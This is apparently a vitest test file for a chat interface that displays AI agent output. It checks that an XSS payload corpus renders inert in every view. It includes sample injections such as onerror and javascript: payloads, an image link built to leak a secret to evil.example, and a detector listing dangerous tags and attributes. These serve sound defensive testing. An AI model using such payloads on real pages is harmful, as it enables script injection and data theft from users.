import { describe, expect, it } from "vitest";

import revealCases from "../../tests/fixtures/reveal_cases.json";
import xssPayloads from "../../tests/fixtures/xss_payloads.json";

import { isSafeUrl, markdownToHtml, renderMarkdownInto, sanitizeHtml } from "../src/chat/markdown";
import jobs, { type JobsState } from "../src/jobs";
import { reveal } from "../src/chat/reveal";
import { createChatView } from "../src/chat/view";
import { createPartView } from "../src/chat/parts";
import type { ChatState } from "../src/types/chat";
import { FakeModel } from "./fake-model";
import { chatState, interaction, message, part, textPart, toolPart, userMessage } from "./fixtures";

// Injection strings model output might carry, raw and wrapped in markdown constructs: the one corpus the
// kernel's tests (tests/test_inert_output.py) read too.
const CORPUS: string[] = xssPayloads.payloads;
const REVEAL_CASES: { input: string; expected: string }[] = revealCases.cases;

/** Every way the corpus could become live content: returns a list of problems found. */
function problems(root: ParentNode): string[] {
  const found: string[] = [];
  for (const el of Array.from(root.querySelectorAll("*"))) {
    const tag = el.tagName.toLowerCase();
    const active = ["script", "iframe", "object", "embed", "style", "form", "meta", "link", "base", "frame"];
    // Anything that fetches by itself: a remote image is a data leak even without script.
    const loading = ["img", "picture", "source", "video", "audio", "svg", "math"];
    if (active.includes(tag) || loading.includes(tag) || (tag === "input" && el.getAttribute("type") === "image")) {
      found.push(`<${tag}>`);
    }
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name)) found.push(`${tag}[${attr.name}]`);
      if (["src", "srcset", "background", "poster", "ping"].includes(attr.name.toLowerCase())) {
        found.push(`${tag}[${attr.name}=${attr.value}]`);
      } else if (["href", "action", "formaction", "xlink:href", "data", "srcdoc"].includes(attr.name.toLowerCase())) {
        const value = attr.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
        if (!/^(https?:|mailto:)/.test(value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
      }
      if (attr.name === "style") found.push(`${tag}[style]`);
    }
  }
  return found;
}

describe("sanitizing model output", () => {
  it("has the shared corpus of at least 60 injection strings", () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(60);
  });

  it("shows images as links naming the host, never loading them", () => {
    const target = document.createElement("div");
    renderMarkdownInto(target, "![chart](https://evil.example/leak?d=SECRET) ![x](data:image/png;base64,AA)");
    expect(target.querySelector("img")).toBeNull();
    const link = target.querySelector<HTMLAnchorElement>("a.hn-image-link")!;
    expect(link.getAttribute("href")).toBe("https://evil.example/leak?d=SECRET");
    expect(link.textContent).toBe("[image: chart from evil.example]");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(target.textContent).toContain("![x](data:image/png;base64,AA)");
  });

  it.each(REVEAL_CASES)("reveal matches the kernel: %j", ({ input, expected }) => {
    expect(reveal(input)).toBe(expected);
  });

  it("the checker flags live content (it is not vacuous)", () => {
    const raw = document.createElement("div");
    raw.innerHTML = '<img src=x onerror=alert(1)><a href="javascript:alert(1)">a</a><iframe></iframe><p style="x">';
    expect(problems(raw)).toEqual([
      "<img>", "img[src=x]", "img[onerror]", "a[href=javascript:alert(1)]", "<iframe>", "p[style]",
    ]);
  });

  it.each(CORPUS)("second layer alone (DOMPurify on raw HTML): %s is neutralised", (source) => {
    expect(problems(new DOMParser().parseFromString(sanitizeHtml(source), "text/html").body)).toEqual([]);
  });

  it.each(CORPUS)("markdown: %s renders inert", (source) => {
    const target = document.createElement("div");
    renderMarkdownInto(target, source);
    expect(problems(target)).toEqual([]);
    expect(problems(new DOMParser().parseFromString(markdownToHtml(source), "text/html"))).toEqual([]);
  });

  it("shows raw HTML as text", () => {
    const target = document.createElement("div");
    renderMarkdownInto(target, "<b>bold</b> <script>alert(1)</script>");
    expect(target.querySelector("b")).toBeNull();
    expect(target.textContent).toContain("<script>alert(1)</script>");
  });

  it("keeps safe links, opening them in a new tab without an opener", () => {
    const target = document.createElement("div");
    renderMarkdownInto(target, "[docs](https://example.com/a) and mailto:me@example.com and https://auto.example");
    const links = Array.from(target.querySelectorAll("a"));
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/a",
      "mailto:me@example.com",
      "https://auto.example",
    ]);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toBe("noopener noreferrer");
    }
  });

  it("does not link relative or scripted targets", () => {
    const target = document.createElement("div");
    renderMarkdownInto(target, "[rel](/api/kernels) [frag](#x) [js](javascript:alert(1))");
    expect(target.querySelectorAll("a")).toHaveLength(0);
    expect(isSafeUrl(" https://ok.example")).toBe(true);
    expect(isSafeUrl("java\nscript:alert(1)")).toBe(false);
  });

  it.each(CORPUS)("every text slot of the chat view: %s renders inert", (evil) => {
    const model = new FakeModel<ChatState>(
      chatState({
        session: { id: "s1", title: evil },
        notice: evil,
        connection: { status: "disconnected", retry_in: null, message: evil },
        model: evil,
        context_usage: { used: 10, max: 100, percent: 10, categories: [{ id: evil, label: evil, tokens: 5 }] },
      }),
    );
    const host = document.createElement("div");
    const view = createChatView(model, host, { schedule: () => () => undefined });
    model.kernelSend({ type: "sessions", sessions: [{ id: "s1", title: evil }, { id: "s2", title: evil }] });
    // Hermes' command catalog (the / menu, opened) and a command's output (session_header.ts, slash.ts).
    const textarea = host.querySelector<HTMLTextAreaElement>(".hn-input")!;
    textarea.value = "/";
    textarea.dispatchEvent(new Event("input"));
    model.kernelSend({ type: "commands", commands: [{ name: `/${evil}`, description: evil, category: evil }, { name: "/x", description: evil, category: "" }] });
    model.kernelSend({ type: "command_output", command: evil, output: evil, warning: evil, prefill: "" });
    expect(host.querySelector(".hn-command-text")!.textContent).toBe(evil);
    // Content reaches the view only through custom messages (the `index` traitlet has no part text).
    model.kernelSend({
      type: "snapshot",
      seq: 0,
      messages: [
        userMessage("t1", evil),
        message({
          id: "assistant:t1",
          status: "error",
          error: evil,
          parts: [
            { ...textPart("reasoning:0", evil), kind: "reasoning" },
            toolPart("tool:x", {
              name: evil,
              preview: evil,
              arguments: { command: evil },
              result: evil,
              interaction: interaction({ kind: "clarify", question: evil, description: evil, choices: [evil] }),
            }),
            textPart("text:1", evil),
          ],
        }),
      ],
    });
    view.flush();
    host.querySelector<HTMLDetailsElement>(".hn-reasoning")!.open = true;
    host.querySelector(".hn-reasoning")!.dispatchEvent(new Event("toggle"));
    // The only <form>s allowed are the view's own, which have no action.
    const forms = Array.from(host.querySelectorAll("form"));
    expect(forms.every((f) => !f.hasAttribute("action") && f.closest(".hn-interaction, .hn-composer"))).toBe(true);
    forms.forEach((f) => f.remove());
    expect(problems(host)).toEqual([]);
    view.dispose();
  });
});

describe("code blocks", () => {
  it("highlights known languages and adds one copy button per block", () => {
    const target = document.createElement("div");
    renderMarkdownInto(target, "```python\ndef f():\n    return 1\n```\n\n```\nplain <b>\n```");
    const blocks = target.querySelectorAll(".hn-code");
    expect(blocks).toHaveLength(2);
    expect(blocks[0]!.querySelector("code .hljs-keyword")?.textContent).toBe("def");
    expect(blocks[1]!.querySelector("code")!.textContent).toBe("plain <b>\n");
    for (const block of Array.from(blocks)) {
      const button = block.querySelector("button.hn-copy")!;
      expect(button.getAttribute("type")).toBe("button");
      expect(button.getAttribute("aria-label")).toBe("Copy code");
    }
  });
});

describe("the jobs view", () => {
  // Job rows, notices, connection errors, run lists and run transcripts are server text too (a prompt-injected
  // model can create cron jobs): every slot goes through the same corpus.
  it.each(CORPUS)("every text slot of the jobs view: %s renders inert", (evil) => {
    const row = {
      id: "0123456789ab", name: evil, schedule: evil, schedule_text: evil,
      schedule_kind: evil, description: evil, state: evil, enabled: true, next_run_at: evil, last_run_at: evil,
      last_status: evil, has_error: true, has_delivery_error: true, repeat_times: null, repeat_completed: 1,
      repeat_text: evil, deliver: evil, skills: [evil], running: false,
    };
    const model = new FakeModel<JobsState>({
      jobs: [row], include_disabled: false, auto_refresh: 0, updated_at: null, loading: false,
      connection: { status: "error", message: evil, url: evil }, notice: { kind: "error", text: evil },
      presets: [{ key: "p", label: evil, fields: [] }], timezone: evil,
    });
    const host = document.createElement("div");
    document.body.append(host);
    const cleanup = jobs.render({ model, el: host });
    const q = (id: string) => host.querySelector<HTMLElement>(`[data-testid="${id}"]`)!;
    model.kernelSend({ type: "job_errors", errors: { [row.id]: { last_error: evil, last_delivery_error: evil } } });
    q("job-runs-open").click();
    const ask = model.sentOfType("runs")[0]!;
    const run = { id: "cron_0123456789ab_20300301_070000", job_id: "0123456789ab", status: evil, started_at: evil,
      ended_at: evil, duration: 2, title: evil, message_count: 4, tool_call_count: 1 };
    model.kernelSend({ type: "runs_result", request: ask.request, id: "0123456789ab", ok: true, runs: [run], message: evil });
    q("job-run-open").click();
    const open = model.sentOfType("transcript")[0]!;
    const messages = [
      userMessage("t1", evil),
      message({ id: "assistant:t1", status: "error", error: evil, parts: [
        toolPart("tool:x", { name: evil, preview: evil, arguments: { command: evil }, result: evil }),
        textPart("text:1", evil),
      ] }),
    ];
    model.kernelSend({ type: "transcript_result", request: open.request, run_id: run.id, ok: true, messages, message: evil });
    expect(host.querySelectorAll('[data-testid="job-run-row"]')).toHaveLength(1);
    expect(q("job-run-transcript").hidden).toBe(false);
    expect(q("job-run-transcript").querySelectorAll(".hn-message")).toHaveLength(2);
    q("job-edit").click(); // the row holds no prompt, so the form asks for it
    const prompt = model.sentOfType("get_prompt")[0]!;
    model.kernelSend({ type: "prompt", request: prompt.request, id: row.id, ok: true, prompt: evil });
    expect(q("jobs-form").hidden).toBe(false);
    // The view's own edit form (no action) and its controls are the only form elements allowed; the only
    // inline styles are its own field widths.
    const own = Array.from(host.querySelectorAll("form, input, button, select, textarea, option"));
    expect(own.every((el) => !el.hasAttribute("action") && !el.hasAttribute("formaction"))).toBe(true);
    host.querySelectorAll("form").forEach((f) => f.replaceWith(...Array.from(f.childNodes)));
    host.querySelectorAll("input[style]").forEach((el) => {
      if (/^width:\d+em$/.test(el.getAttribute("style")!)) el.removeAttribute("style");
    });
    expect(problems(host)).toEqual([]);
    cleanup?.();
  });
});

describe("the task list, subagents and diffs", () => {
  // Todo item text, a subagent's goal/activity/tools/summary and diff lines are model text relayed by the server.
  it.each(CORPUS)("every new text slot: %s renders inert and verbatim", (evil) => {
    const ctx = { role: "assistant" as const, send: () => undefined, answered: new Set<string>() };
    const host = document.createElement("div");
    const todo = createPartView(
      part({ id: "todo", kind: "todo", todos: [{ id: evil, content: evil, status: "in_progress", parent: evil }] }),
      "assistant:t",
      ctx,
    );
    const sub = createPartView(
      part({
        id: "subagent:x", kind: "subagent", status: "completed", duration: 1,
        subagent: {
          id: evil, parent_id: evil, depth: 1, goal: evil, status: "completed", model: evil, task_index: 0,
          task_count: 1, activity: evil, tools: [{ name: evil, preview: evil }], summary: evil,
        },
      }),
      "assistant:t",
      ctx,
    );
    const diffText = `a/${evil} → b\n@@ ${evil}\n+${evil}\n-${evil}`;
    const diff = createPartView(
      toolPart("tool:p", { name: "patch", status: "completed", diff: diffText }),
      "assistant:t",
      ctx,
    );
    host.append(todo.el, sub.el, diff.el);
    expect(host.querySelector(".hn-todo-text")!.textContent).toBe(evil);
    expect(host.querySelector(".hn-subagent-goal")!.textContent).toBe(evil);
    expect(host.querySelector(".hn-subagent-summary")!.textContent).toBe(evil);
    const rows = Array.from(host.querySelectorAll(".hn-diff-line"), (row) => row.textContent);
    expect(rows.join("\n")).toBe(diffText);
    // the checklist's own read-only checkboxes are the only inputs
    host.querySelectorAll("input[type=checkbox][disabled]").forEach((el) => el.remove());
    expect(problems(host)).toEqual([]);
  });
});

describe("a finished cron run's toast", () => {
  // The job name is model-chosen (a prompt-injected model can create jobs): the toast and the notice line carry
  // it as text, once per notice.
  it.each(CORPUS)("job name %s: one toast with the exact text, the notice line inert", (evil) => {
    const calls: Record<string, unknown>[] = [];
    (globalThis as { jupyterapp?: unknown }).jupyterapp = {
      commands: {
        hasCommand: (id: string) => id === "apputils:notify",
        execute: (_id: string, args: Record<string, unknown>) => (calls.push(args), Promise.resolve()),
      },
    };
    const model = new FakeModel<JobsState>({
      jobs: [], include_disabled: false, auto_refresh: 0, updated_at: null, loading: false,
      connection: { status: "connected", message: null, url: "" }, notice: {}, presets: [], timezone: "UTC",
    });
    const host = document.createElement("div");
    document.body.append(host);
    const cleanup = jobs.render({ model, el: host });
    const text = `'${evil}' finished a run (ok, 2.4 s). Open Runs to see what it did.`;
    model.kernelSet("notice", { kind: "run", text });
    model.kernelSet("loading", true);
    expect(calls.map((c) => c.message)).toEqual([text]);
    const line = host.querySelector("[data-kind='run']")!;
    expect(line.textContent).toBe(text);
    expect(line.children).toHaveLength(0); // text only: nothing parsed
    expect(problems(line)).toEqual([]);
    cleanup?.();
    delete (globalThis as { jupyterapp?: unknown }).jupyterapp;
    host.remove();
  });
});

describe("attachments and message buttons", () => {
  // A file's name is the user's (or a downloaded file's) text; an edited prompt is stored text: both new slots
  // go through the corpus, as do the buttons on messages that hold it.
  it.each(CORPUS)("file names, the edit box, the message buttons and Undo with files' list: %s stays inert", (evil) => {
    const model = new FakeModel<ChatState>(chatState());
    const host = document.createElement("div");
    document.body.append(host);
    const frames: (() => void)[] = [];
    createChatView(model, host, { schedule: (callback) => (frames.push(callback), () => undefined) });
    const input = host.querySelector<HTMLInputElement>("input[type=file]")!;
    Object.defineProperty(input, "files", { configurable: true, value: [new File(["t"], `${evil}.txt`, { type: "text/plain" })] });
    input.dispatchEvent(new Event("change"));
    expect(host.querySelector(".hn-attachment span")!.textContent).toBe(`${evil}.txt`);
    const reply = message({ id: "assistant:t1", status: "complete", parts: [textPart("text:0", evil)] });
    model.kernelSend({ type: "snapshot", seq: 1, revs: {}, messages: [userMessage("t1", evil), reply] });
    for (const callback of frames.splice(0)) callback();
    host.querySelector<HTMLButtonElement>(".hn-act-edit")!.click();
    expect(host.querySelector<HTMLTextAreaElement>(".hn-edit-input")!.value).toBe(evil.replace(/\r\n?/g, "\n")); // a textarea keeps \n only
    expect(host.querySelectorAll(".hn-msg-action")).toHaveLength(5);
    // Undo with files: the names of the files a turn changed are the server's text
    const [asked] = model.sentOfType("turn_files");
    model.kernelSend({ type: "turn_files", request: asked!.request, message_id: "assistant:t1",
      files: [{ path: evil, status: evil, added: 1, removed: 0 }], checkpoints: true });
    host.querySelector<HTMLButtonElement>(".hn-act-undo-files")!.click();
    expect(host.querySelector(".hn-undo-files-list li")!.textContent).toBe(`${evil} (${evil} +1)`);
    expect(problems(host)).toEqual([]);
    host.remove();
  });
});
